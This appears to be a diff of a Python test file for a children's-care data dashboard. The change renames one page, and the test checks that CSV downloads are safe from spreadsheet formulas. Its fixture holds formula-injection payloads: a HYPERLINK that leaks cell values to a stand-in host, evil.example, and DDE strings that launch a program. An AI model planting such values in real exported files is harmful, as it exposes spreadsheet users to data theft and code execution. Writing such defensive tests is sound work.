@@ -13,7 +13,7 @@ from regional import db, exports, models
 from tests.conftest import PROJECT_DIR
 
 PAGES = ["overview.py", "pages/1_Children_in_care.py", "pages/2_Fostering.py", "pages/3_Residential.py",
-         "pages/4_Placement_distance.py", "pages/8_Data_status.py"]
+         "pages/4_Placement_distance.py", "pages/8_Status.py"]
 HOSTILE = {"title": '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Source document (click)")',
            "section": "+cmd|' /C calc'!A0", "note": "@SUM(1+1)*cmd|' /C calc'!A0"}
 
@@ -85,7 +85,7 @@ def test_every_download_is_formula_safe(hostile_database, captured, page):
         at.radio(key="dist_uasc").set_value("UASC only").run()
         assert not at.exception
     downloads = _downloads(at, captured)
-    if page != "pages/8_Data_status.py":
+    if page != "pages/8_Status.py":
         assert downloads, "the page offers no download"
     csvs = {name: data for name, data in downloads.items() if not name.endswith("md)") and b"," in data[:2000]}
     for name, data in csvs.items():
